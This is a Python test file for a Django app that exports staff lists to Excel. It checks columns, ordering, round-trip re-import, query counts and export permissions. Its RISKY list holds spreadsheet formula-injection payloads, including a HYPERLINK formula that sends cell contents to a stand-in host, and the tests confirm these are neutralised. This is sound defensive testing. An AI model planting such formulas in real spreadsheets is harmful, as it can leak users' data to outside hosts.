"""Export: the import's columns, re-importable as a no-op, and never a formula."""

from __future__ import annotations

import io
from datetime import datetime

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from hoinghi.org.exports import export_staff, staff_template
from hoinghi.org.imports.samples import HEADERS, staff_rows, xlsx_bytes
from hoinghi.org.imports.services import import_staff
from hoinghi.org.models import Person
from hoinghi.testing import World, make_person

RISKY = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
    "+84912345678",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTab",
    "\rCR",
    "=1+1",
]


def sheet_of(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return sheet


def test_it_writes_the_import_columns_and_one_row_per_person(world: World) -> None:
    sheet = sheet_of(export_staff(world.agency))
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert len(rows) - 1 == Person.objects.filter(agency=world.agency).count()
    head = next(r for r in rows if r[0] == "TD01")
    assert head[1:3] == ("Nguyễn Thị Hương", "Nữ") and head[9:16] == (
        "van-phong",
        "Văn phòng",
        None,
        "Trưởng phòng",
        "x",
        "x",
        datetime(2015, 1, 1),
    )


def test_it_orders_people_by_given_name(world: World) -> None:
    names = [
        r[1] for r in sheet_of(export_staff(world.agency)).iter_rows(min_row=2, values_only=True)
    ]
    assert names[:3] == ["Đỗ Văn Bình", "Vũ Thị Cúc", "Hoàng Văn Đoàn"]


def test_an_export_imports_back_as_a_no_op(world: World) -> None:
    import_staff(world.agency, xlsx_bytes(staff_rows(40)), filename="ds.xlsx")
    counts = import_staff(world.agency, export_staff(world.agency), filename="xuat.xlsx")
    assert counts.changes == 0
    assert counts.people_unchanged == Person.objects.filter(agency=world.agency).count()


def test_no_cell_of_an_export_is_a_formula(world: World) -> None:
    for i, text in enumerate(RISKY):
        make_person(world.agency, f"X{i}", f"Nguyễn {text}", unit=world.office, title=text)
    sheet = sheet_of(export_staff(world.agency))
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    risky = [
        c
        for c in cells
        if isinstance(c.value, str) and c.value.lstrip("\t\r").startswith(("=", "+", "-", "@"))
    ]
    assert len(risky) == len(RISKY) - 2  # the names begin with "Nguyễn", the titles are risky
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    assert {c.value for c in risky} >= {
        '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
        "=1+1",
        "@SUM(A1:A2)",
    }


def test_the_risky_text_imports_back_unchanged(world: World) -> None:
    make_person(world.agency, "X1", "Nguyễn An", unit=world.office, title="=1+1")
    counts = import_staff(world.agency, export_staff(world.agency), filename="xuat.xlsx")
    assert counts.changes == 0


def test_the_template_has_a_header_an_example_and_a_guide(world: World) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(staff_template()))
    assert workbook.sheetnames == ["Cán bộ", "Hướng dẫn"]
    rows = list(workbook["Cán bộ"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS and rows[1][0] == "CB001" and isinstance(rows[1][3], datetime)
    counts = import_staff(world.agency, staff_template(), filename="mau.xlsx")
    assert counts.people_created == 1 and counts.positions_created == 1


def test_the_export_costs_a_fixed_number_of_queries(
    world: World, django_assert_max_num_queries: object
) -> None:
    rows = staff_rows(60)
    rows[0]["Đơn vị cấp trên (mã)"] = "van-phong"
    import_staff(world.agency, xlsx_bytes(rows), filename="ds.xlsx")
    with django_assert_max_num_queries(4):  # type: ignore[operator]
        export_staff(world.agency)  # people, positions, their units, the units' parents


@pytest.mark.parametrize(
    ("persona", "status"),
    [("admin", 200), ("clerk", 200), ("leader", 403), ("colleague", 403), ("stranger", 404)],
)
def test_only_the_administrator_and_the_clerk_may_export(
    world: World, persona: str, status: int
) -> None:
    client = Client()
    client.force_login(getattr(world, persona))
    response = client.get(reverse("org:export-people", args=[world.agency.code]))
    assert response.status_code == status
    if status == 200:
        assert response["Content-Disposition"].startswith(
            'attachment; filename="can-bo-co-quan-thu-'
        )
        assert response["Cache-Control"] == "no-store"
        assert sheet_of(response.content).cell(row=1, column=1).value == "Mã cán bộ"
